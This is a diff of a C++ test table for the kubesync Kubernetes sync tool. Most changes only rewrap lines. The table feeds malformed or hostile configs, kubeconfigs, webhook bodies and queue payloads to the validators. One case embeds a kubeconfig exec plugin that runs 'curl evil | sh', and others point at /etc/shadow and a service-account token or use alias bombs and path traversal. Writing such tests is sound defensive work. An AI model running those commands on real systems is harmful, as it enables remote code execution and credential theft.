@@ -76,8 +76,9 @@ metadata:
   namespace: dr
 )";
 
-std::string ObjectsLs(const std::string& config_extra, const std::string& resources =
-                                                          "      - {group: apps, version: v1, resource: deployments}\n") {
+std::string ObjectsLs(
+    const std::string& config_extra,
+    const std::string& resources = "      - {group: apps, version: v1, resource: deployments}\n") {
   return std::string(kLsHeader) +
          "spec:\n  plugin: kubernetes-objects-to-kubernetes\n  config:\n    sourceName: live\n"
          "    destinationName: standby\n" +
@@ -149,10 +150,12 @@ Status ThroughPipeline(const json& object, const plan::Gvr& gvr) {
   KS_ASSIGN_OR_RETURN(std::string payload, proto::Encode(event));
   KS_ASSIGN_OR_RETURN(proto::Event decoded, proto::Decode(payload));
   const json received = json::parse(decoded.object_json, nullptr, false);
-  if (received != marked) return Status(Code::kDataLoss, "the object changed on the way through the envelope");
+  if (received != marked)
+    return Status(Code::kDataLoss, "the object changed on the way through the envelope");
   json restored = received;
   KS_RETURN_IF_ERROR(transform::RestoreFromAnnotation(restored));
-  if (restored["spec"] != cleaned["spec"]) return Status(Code::kDataLoss, "the originals do not restore the spec");
+  if (restored["spec"] != cleaned["spec"])
+    return Status(Code::kDataLoss, "the originals do not restore the spec");
   return OkStatus();
 }
 
@@ -229,7 +232,8 @@ std::function<Status(Servers&)> CorruptRecord(std::vector<std::string> write, bo
     if (read_with_get) return store->Get(kId, kKey).status();
     KS_ASSIGN_OR_RETURN(state::CheckResult check, store->Check(kId, kKey, 43, "hash-43"));
     if (check.cas == state::CasResult::kStale) {
-      return Status(Code::kDataLoss, "a newer event (rv 43) is stale against the corrupt record: it would never be written");
+      return Status(Code::kDataLoss,
+                    "a newer event (rv 43) is stale against the corrupt record: it would never be written");
     }
     return OkStatus();
   };
@@ -243,13 +247,15 @@ std::vector<Row> Rows() {
   const Code kInvalid = Code::kInvalidArgument;
 
   // Configs.
-  add("config_unknown_plugin", Config(std::string(kLsHeader) + "spec:\n  plugin: kubernetes-to-bucket\n  config: {}\n"),
-      kInvalid, "spec.plugin: unknown plugin \"kubernetes-to-bucket\"");
+  add("config_unknown_plugin",
+      Config(std::string(kLsHeader) + "spec:\n  plugin: kubernetes-to-bucket\n  config: {}\n"), kInvalid,
+      "spec.plugin: unknown plugin \"kubernetes-to-bucket\"");
   add("config_replicas_wrong_type",
       Config(ObjectsLs("    components:\n      processor: {replicas: three}\n")), kInvalid,
       "spec.config.components.processor.replicas: must be an integer (got the string \"three\")");
-  add("config_replicas_fork_bomb", Config(ObjectsLs("    components:\n      processor: {replicas: 100000}\n")),
-      kInvalid, "spec.config.components.processor.replicas: must be at most 16 (got 100000)");
+  add("config_replicas_fork_bomb",
+      Config(ObjectsLs("    components:\n      processor: {replicas: 100000}\n")), kInvalid,
+      "spec.config.components.processor.replicas: must be at most 16 (got 100000)");
   add("config_concurrent_tasks_huge",
       Config(ObjectsLs("    components:\n      synchronizer: {concurrentTasks: 4294967296}\n")), kInvalid,
       "spec.config.components.synchronizer.concurrentTasks: must be between 1 and 2147483647");
@@ -263,31 +269,43 @@ std::vector<Row> Rows() {
              "      - {group: apps, version: v1, resource: deployments}\n"),
       kInvalid, "spec.config.destinationName: is the source cluster \"live\" too");
   add("config_automation_group",
-      Config(ObjectsLs("", "      - {group: automation.astronetes.io, version: v1alpha1, resource: taskruns}\n")),
-      kInvalid, "spec.config.replication.resources[0].group: automation.astronetes.io is kubesync's own API group");
+      Config(ObjectsLs("",
+                       "      - {group: automation.astronetes.io, version: v1alpha1, resource: taskruns}\n")),
+      kInvalid,
+      "spec.config.replication.resources[0].group: automation.astronetes.io is kubesync's own API group");
   add("config_bad_regex",
-      Config(ObjectsLs("", "      - group: apps\n        version: v1\n        resource: deployments\n"
-                           "        filters: {nameSelector: {regex: [\"(unclosed\"]}}\n")),
-      kInvalid, "spec.config.replication.resources[0].filters.nameSelector.regex[0]: invalid regular expression");
+      Config(ObjectsLs("",
+                       "      - group: apps\n        version: v1\n        resource: deployments\n"
+                       "        filters: {nameSelector: {regex: [\"(unclosed\"]}}\n")),
+      kInvalid,
+      "spec.config.replication.resources[0].filters.nameSelector.regex[0]: invalid regular expression");
   add("config_regex_repeat_bomb",
-      Config(ObjectsLs("", "      - group: apps\n        version: v1\n        resource: deployments\n"
-                           "        filters: {nameSelector: {excludeRegex: [\"((a{1000}){1000}){1000}\"]}}\n")),
-      kInvalid, "spec.config.replication.resources[0].filters.nameSelector.excludeRegex[0]: invalid regular expression");
+      Config(ObjectsLs("",
+                       "      - group: apps\n        version: v1\n        resource: deployments\n"
+                       "        filters: {nameSelector: {excludeRegex: [\"((a{1000}){1000}){1000}\"]}}\n")),
+      kInvalid,
+      "spec.config.replication.resources[0].filters.nameSelector.excludeRegex[0]: invalid regular "
+      "expression");
   add("config_regex_huge",
-      Config(ObjectsLs("", "      - group: apps\n        version: v1\n        resource: deployments\n"
-                           "        filters: {nameSelector: {regex: [\"" +
-                               Repeat("(a|b|c|d)", 200000) + "\"]}}\n")),
-      kInvalid, "spec.config.replication.resources[0].filters.nameSelector.regex[0]: invalid regular expression");
-  add("config_wrong_type_config", Config(std::string(kLsHeader) + "spec:\n  plugin: kubernetes-objects-to-kubernetes\n  config: everything\n"),
+      Config(ObjectsLs("",
+                       "      - group: apps\n        version: v1\n        resource: deployments\n"
+                       "        filters: {nameSelector: {regex: [\"" +
+                           Repeat("(a|b|c|d)", 200000) + "\"]}}\n")),
+      kInvalid,
+      "spec.config.replication.resources[0].filters.nameSelector.regex[0]: invalid regular expression");
+  add("config_wrong_type_config",
+      Config(std::string(kLsHeader) +
+             "spec:\n  plugin: kubernetes-objects-to-kubernetes\n  config: everything\n"),
       kInvalid, "spec.config: must be an object");
-  add("config_resources_not_a_list", Config(std::string(kLsHeader) +
-                                            "spec:\n  plugin: kubernetes-objects-to-kubernetes\n  config:\n"
-                                            "    sourceName: live\n    destinationName: standby\n"
-                                            "    replication: {resources: deployments}\n"),
+  add("config_resources_not_a_list",
+      Config(std::string(kLsHeader) + "spec:\n  plugin: kubernetes-objects-to-kubernetes\n  config:\n"
+                                      "    sourceName: live\n    destinationName: standby\n"
+                                      "    replication: {resources: deployments}\n"),
       kInvalid, "spec.config.replication.resources: must be a list");
-  add("config_deep_yaml", Config(ObjectsLs("    components: " + Repeat("[", 100000) + "\n")), kInvalid, "line");
-  add("config_deep_yaml_block", Config(ObjectsLs("    components: " + Repeat("- ", 100000) + "x\n")), kInvalid,
+  add("config_deep_yaml", Config(ObjectsLs("    components: " + Repeat("[", 100000) + "\n")), kInvalid,
       "line");
+  add("config_deep_yaml_block", Config(ObjectsLs("    components: " + Repeat("- ", 100000) + "x\n")),
+      kInvalid, "line");
   add("config_alias_bomb",
       Config(ObjectsLs("    x0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
                        "    x1: &a1 [*a0, *a0, *a0, *a0, *a0, *a0, *a0, *a0, *a0]\n"
@@ -309,64 +327,77 @@ std::vector<Row> Rows() {
   add("config_two_livesyncs", Config(ObjectsLs("") + "---\n" + ObjectsLs("")), kInvalid,
       "found 2 LiveSynchronization documents");
   add("config_empty", Config(""), kInvalid, "the input is empty");
-  add("config_typo_field", Config(std::string(kLsHeader) +
-                                  "spec:\n  plugin: kubernetes-objects-to-kubernetes\n  config:\n"
-                                  "    sourceName: live\n    destinationName: standby\n    replicaton: {}\n"),
+  add("config_typo_field",
+      Config(std::string(kLsHeader) +
+             "spec:\n  plugin: kubernetes-objects-to-kubernetes\n  config:\n"
+             "    sourceName: live\n    destinationName: standby\n    replicaton: {}\n"),
       kInvalid, "spec.config.replicaton: unknown field (did you mean replication?)");
   add("config_bad_patch_pointer",
-      Config(ObjectsLs("", "      - group: apps\n        version: v1\n        resource: deployments\n"
-                           "        transformation: {patch: [{op: replace, path: spec/replicas, value: 0}]}\n")),
+      Config(ObjectsLs("",
+                       "      - group: apps\n        version: v1\n        resource: deployments\n"
+                       "        transformation: {patch: [{op: replace, path: spec/replicas, value: 0}]}\n")),
       kInvalid, "spec.config.replication.resources[0].transformation.patch[0].path: must be a JSON pointer");
   add("config_allow_same_cluster_not_bool",
-      Config("apiVersion: automation.astronetes.io/v1alpha1\nkind: LiveSynchronization\nmetadata:\n  name: ls\n"
-             "  annotations: {kubesync.io/allow-same-cluster: \"1\"}\nspec:\n"
-             "  plugin: kubernetes-objects-to-kubernetes\n  config:\n    sourceName: a\n    destinationName: b\n"
-             "    replication: {resources: [{group: apps, version: v1, resource: deployments}]}\n"),
+      Config(
+          "apiVersion: automation.astronetes.io/v1alpha1\nkind: LiveSynchronization\nmetadata:\n  name: ls\n"
+          "  annotations: {kubesync.io/allow-same-cluster: \"1\"}\nspec:\n"
+          "  plugin: kubernetes-objects-to-kubernetes\n  config:\n    sourceName: a\n    destinationName: b\n"
+          "    replication: {resources: [{group: apps, version: v1, resource: deployments}]}\n"),
       kInvalid, "metadata.annotations[kubesync.io/allow-same-cluster]: must be \"true\" or \"false\"");
-  add("config_invalid_utf8_name", Config(ObjectsLs("", "      - {group: apps, version: v1, resource: \"deploy\xff\xfements\"}\n")),
+  add("config_invalid_utf8_name",
+      Config(ObjectsLs("", "      - {group: apps, version: v1, resource: \"deploy\xff\xfements\"}\n")),
       kInvalid, "spec.config.replication.resources[0].resource: invalid resource");
 
   // Kubeconfigs and Secrets.
   add("kubeconfig_not_yaml", SecretKubeconfig("clusters: [\n  - {name: k"), kInvalid, "line");
   add("kubeconfig_exec_plugin_in_secret",
-      SecretKubeconfig(KubeconfigWith("    server: https://127.0.0.1:6443\n",
-                                      "    exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, "
-                                      "args: [-c, \"curl evil | sh\"]}\n")),
+      SecretKubeconfig(
+          KubeconfigWith("    server: https://127.0.0.1:6443\n",
+                         "    exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh, "
+                         "args: [-c, \"curl evil | sh\"]}\n")),
       kInvalid, "users[u].user.exec: not allowed in a kubeconfig stored in a Secret");
   add("kubeconfig_token_file_in_secret",
-      SecretKubeconfig(KubeconfigWith("    server: https://127.0.0.1:6443\n",
-                                      "    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token\n")),
+      SecretKubeconfig(
+          KubeconfigWith("    server: https://127.0.0.1:6443\n",
+                         "    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token\n")),
       kInvalid, "users[u].user.tokenFile: not allowed");
   add("kubeconfig_ca_file_in_secret",
-      SecretKubeconfig(KubeconfigWith("    server: https://127.0.0.1:6443\n    certificate-authority: /etc/shadow\n",
-                                      "    token: abc\n")),
+      SecretKubeconfig(
+          KubeconfigWith("    server: https://127.0.0.1:6443\n    certificate-authority: /etc/shadow\n",
+                         "    token: abc\n")),
       kInvalid, "clusters[k].cluster.certificate-authority: not allowed");
   add("kubeconfig_bad_base64",
-      SecretKubeconfig(KubeconfigWith("    server: https://127.0.0.1:6443\n    certificate-authority-data: \"%%%not base64%%%\"\n",
-                                      "    token: abc\n")),
+      SecretKubeconfig(KubeconfigWith(
+          "    server: https://127.0.0.1:6443\n    certificate-authority-data: \"%%%not base64%%%\"\n",
+          "    token: abc\n")),
       kInvalid, "certificate-authority-data");
-  add("kubeconfig_missing_server", SecretKubeconfig(KubeconfigWith("    insecure-skip-tls-verify: true\n", "    token: abc\n")),
-      kInvalid, "server");
+  add("kubeconfig_missing_server",
+      SecretKubeconfig(KubeconfigWith("    insecure-skip-tls-verify: true\n", "    token: abc\n")), kInvalid,
+      "server");
   add("kubeconfig_missing_context",
-      SecretKubeconfig("apiVersion: v1\nkind: Config\ncurrent-context: nowhere\nclusters: []\ncontexts: []\nusers: []\n"),
+      SecretKubeconfig(
+          "apiVersion: v1\nkind: Config\ncurrent-context: nowhere\nclusters: []\ncontexts: []\nusers: []\n"),
       Code::kNotFound, "kubeconfig: context \"nowhere\" not found");
   add("kubeconfig_huge_token",
-      SecretKubeconfig(KubeconfigWith("    insecure-skip-tls-verify: true\n", "    token: " + std::string(1 << 20, 't') + "\n")),
+      SecretKubeconfig(KubeconfigWith("    insecure-skip-tls-verify: true\n",
+                                      "    token: " + std::string(1 << 20, 't') + "\n")),
       kInvalid, "server");
   add("kubeconfig_deep", SecretKubeconfig("clusters: " + Repeat("[", 100000) + "\n"), kInvalid, "line");
   add("kubeconfig_wrong_shape", SecretKubeconfig("[1, 2, 3]\n"), kInvalid, "kubeconfig");
-  add("kubeconfig_clusters_wrong_type", SecretKubeconfig("apiVersion: v1\nkind: Config\nclusters: {a: b}\n"), kInvalid,
-      "clusters");
+  add("kubeconfig_clusters_wrong_type", SecretKubeconfig("apiVersion: v1\nkind: Config\nclusters: {a: b}\n"),
+      kInvalid, "clusters");
 
   // Objects from the source.
-  add("object_over_1_5_mib",
+  add(
+      "object_over_1_5_mib",
       [](Servers&) {
         json o = Deployment("big");
         o["spec"]["template"]["metadata"]["annotations"]["blob"] = std::string(1600 << 10, 'x');
         return ThroughPipeline(o, kDeployments);
       },
       Code::kOk, "");
-  add("object_nested_to_the_api_server_limit",
+  add(
+      "object_nested_to_the_api_server_limit",
       [](Servers&) {
         json o = Deployment("deep");
         o["spec"]["template"]["metadata"]["annotations"] = json::object();
@@ -374,72 +405,96 @@ std::vector<Row> Rows() {
         return ThroughPipeline(o, kDeployments);
       },
       Code::kOk, "");
-  add("object_odd_name_with_slash",
+  add(
+      "object_odd_name_with_slash",
       [](Servers&) {
         proto::Event e = GoodEvent();
         e.name = "a/../../b";
         return state::ObjectStateStore::RecordKey(kId, proto::ObjectKey(e)).status();
       },
-      kInvalid, "state: object key \"apps/deployments/team-a/a/../../b\" is not group/resource/namespace/name");
-  add("object_odd_name_long_unicode",
-      [](Servers&) { return ThroughPipeline(Deployment(Repeat("\xc3\xa9", 120)), kDeployments); }, Code::kOk, "");
-  add("object_name_too_long",
+      kInvalid,
+      "state: object key \"apps/deployments/team-a/a/../../b\" is not group/resource/namespace/name");
+  add(
+      "object_odd_name_long_unicode",
+      [](Servers&) { return ThroughPipeline(Deployment(Repeat("\xc3\xa9", 120)), kDeployments); }, Code::kOk,
+      "");
+  add(
+      "object_name_too_long",
       [](Servers&) { return ThroughPipeline(Deployment(std::string(254, 'a')), kDeployments); }, kInvalid,
       "envelope.name: longer than 253 characters");
   // The API server never sends invalid UTF-8 (Go's encoder replaces it); a stand-in that
   // does gets its line refused at the decoder, so no invalid string reaches the pipeline.
-  add("object_invalid_utf8_in_strings",
+  add(
+      "object_invalid_utf8_in_strings",
       [](Servers&) {
         std::string line = R"({"type":"MODIFIED","object":)" + Deployment("web").dump() + "}";
-        line.replace(line.find("web"), 3, "w\xe9" "b");
+        line.replace(line.find("web"), 3,
+                     "w\xe9"
+                     "b");
         return kube::ParseWatchEvent(line).status();
       },
       kInvalid, "watch event: not valid JSON");
-  add("nats_invalid_utf8_in_name",
+  add(
+      "nats_invalid_utf8_in_name",
       [](Servers&) {
         proto::Event e = GoodEvent();
-        e.name = "we\xff" "b";
+        e.name =
+            "we\xff"
+            "b";
         auto encoded = proto::Encode(e);
         if (!encoded.ok()) return encoded.status();
         return proto::Decode(*encoded).status();
       },
       kInvalid, "envelope.name");
-  add("object_not_an_object",
+  add(
+      "object_not_an_object",
       [](Servers&) {
         proto::Event e = GoodEvent();
         e.object_json = "[1,2,3]";
         return proto::Encode(e).status();
       },
       kInvalid, "envelope.object_json");
-  add("object_transformation_on_missing_path",
+  add(
+      "object_transformation_on_missing_path",
       [](Servers&) {
-        return transform::ApplyTransformation(Deployment("web"), {{plan::PatchOp::kReplace, "/spec/nothing/here", 0}}, false)
+        return transform::ApplyTransformation(Deployment("web"),
+                                              {{plan::PatchOp::kReplace, "/spec/nothing/here", 0}}, false)
             .status();
       },
       kInvalid, "/spec/nothing/here");
-  add("watch_line_not_json", [](Servers&) { return kube::ParseWatchEvent(R"({"type":"ADDED","object":{"metadata")").status(); },
+  add(
+      "watch_line_not_json",
+      [](Servers&) { return kube::ParseWatchEvent(R"({"type":"ADDED","object":{"metadata")").status(); },
       kInvalid, "watch event");
   // Deeper than the API server's own decoder allows (10000): refused at the door, before any
   // recursive walk (clean, hash, print) could overflow a component's stack.
-  add("watch_line_deep",
+  add(
+      "watch_line_deep",
       [](Servers&) {
-        return kube::ParseWatchEvent(R"({"type":"ADDED","object":{"metadata":{"name":"a","namespace":"b"},"spec":)" +
-                                     NestedText(200000) + "}}")
+        return kube::ParseWatchEvent(
+                   R"({"type":"ADDED","object":{"metadata":{"name":"a","namespace":"b"},"spec":)" +
+                   NestedText(200000) + "}}")
             .status();
       },
       kInvalid, "object.spec.a.a");
 
   // Webhook requests.
-  add("webhook_deep_spec", [](Servers&) { return Webhook(Review(R"({"spec":)" + NestedText(300000) + "}", "UPDATE")); },
-      kInvalid, "request.object.spec.a.a");
-  add("webhook_oversized",
+  add(
+      "webhook_deep_spec",
+      [](Servers&) { return Webhook(Review(R"({"spec":)" + NestedText(300000) + "}", "UPDATE")); }, kInvalid,
+      "request.object.spec.a.a");
+  add(
+      "webhook_oversized",
       [](Servers&) { return Webhook(Review(R"({"spec":{"blob":")" + std::string(9 << 20, 'x') + R"("}})")); },
       Code::kResourceExhausted, "larger than the limit of 8388608 bytes");
-  add("webhook_not_json", [](Servers&) { return Webhook("{\"request\": {\"uid\": "); }, kInvalid,
+  add(
+      "webhook_not_json", [](Servers&) { return Webhook("{\"request\": {\"uid\": "); }, kInvalid,
       "the request body is not a JSON AdmissionReview");
-  add("webhook_no_uid", [](Servers&) { return Webhook(R"({"request":{"operation":"CREATE"}})"); }, kInvalid,
+  add(
+      "webhook_no_uid", [](Servers&) { return Webhook(R"({"request":{"operation":"CREATE"}})"); }, kInvalid,
       "the AdmissionReview has no request.uid");
-  add("webhook_invalid_utf8_username",
+  add(
+      "webhook_invalid_utf8_username",
       [](Servers&) {
         std::string body = Review(R"({"metadata":{"name":"ls"}})");
         body.replace(body.find("mallory"), 7, "mal\xffory");
@@ -451,28 +506,33 @@ std::vector<Row> Rows() {
   add("nats_empty_payload", Payload(""), kInvalid, "envelope.");
   add("nats_garbage", Payload("\xff\xff\xff\xff\x0f garbage that is not protobuf"), kInvalid, "envelope");
   add("nats_json_instead_of_protobuf", Payload(Deployment("web").dump()), kInvalid, "envelope");
-  add("nats_truncated",
+  add(
+      "nats_truncated",
       [](Servers&) {
         const std::string bytes = *proto::Encode(GoodEvent());
         return proto::Decode(bytes.substr(0, bytes.size() / 2)).status();
       },
       kInvalid, "envelope");
-  add("nats_bad_resource_version", Payload(EditedEnvelope("42", "4x")), kInvalid, "envelope.resource_version");
-  add("nats_bad_live_sync_id", Payload(EditedEnvelope("dr.ls", "dr:ls")), kInvalid, "envelope.live_synchronization_id");
+  add("nats_bad_resource_version", Payload(EditedEnvelope("42", "4x")), kInvalid,
+      "envelope.resource_version");
+  add("nats_bad_live_sync_id", Payload(EditedEnvelope("dr.ls", "dr:ls")), kInvalid,
+      "envelope.live_synchronization_id");
 
   // Redis records.
-  add("redis_rv_not_a_number_get", CorruptRecord({"HSET", "rv", "abc", "uid", "u", "hash", "h", "deleted", "0"}, true),
-      Code::kDataLoss, "field rv is \"abc\", not a number");
-  add("redis_rv_not_a_number_check", CorruptRecord({"HSET", "rv", "abc", "uid", "u", "hash", "h", "deleted", "0"}, false),
-      Code::kOk, "");
+  add("redis_rv_not_a_number_get",
+      CorruptRecord({"HSET", "rv", "abc", "uid", "u", "hash", "h", "deleted", "0"}, true), Code::kDataLoss,
+      "field rv is \"abc\", not a number");
+  add("redis_rv_not_a_number_check",
+      CorruptRecord({"HSET", "rv", "abc", "uid", "u", "hash", "h", "deleted", "0"}, false), Code::kOk, "");
   add("redis_rv_absurdly_large_check",
-      CorruptRecord({"HSET", "rv", "999999999999999999999999999999", "hash", "h", "deleted", "0"}, false), Code::kOk, "");
-  add("redis_updated_at_garbage", CorruptRecord({"HSET", "rv", "5", "updatedAt", "yesterday"}, true), Code::kDataLoss,
-      "field updatedAt is \"yesterday\"");
+      CorruptRecord({"HSET", "rv", "999999999999999999999999999999", "hash", "h", "deleted", "0"}, false),
+      Code::kOk, "");
+  add("redis_updated_at_garbage", CorruptRecord({"HSET", "rv", "5", "updatedAt", "yesterday"}, true),
+      Code::kDataLoss, "field updatedAt is \"yesterday\"");
   add("redis_wrong_type_get", CorruptRecord({"SET", "not a hash"}, true), Code::kInternal, "WRONGTYPE");
   add("redis_wrong_type_check", CorruptRecord({"SET", "not a hash"}, false), Code::kOk, "");
-  add("redis_deleted_flag_garbage_check", CorruptRecord({"HSET", "rv", "5", "hash", "h", "deleted", "maybe"}, false),
-      Code::kOk, "");
+  add("redis_deleted_flag_garbage_check",
+      CorruptRecord({"HSET", "rv", "5", "hash", "h", "deleted", "maybe"}, false), Code::kOk, "");
   return rows;
 }
 
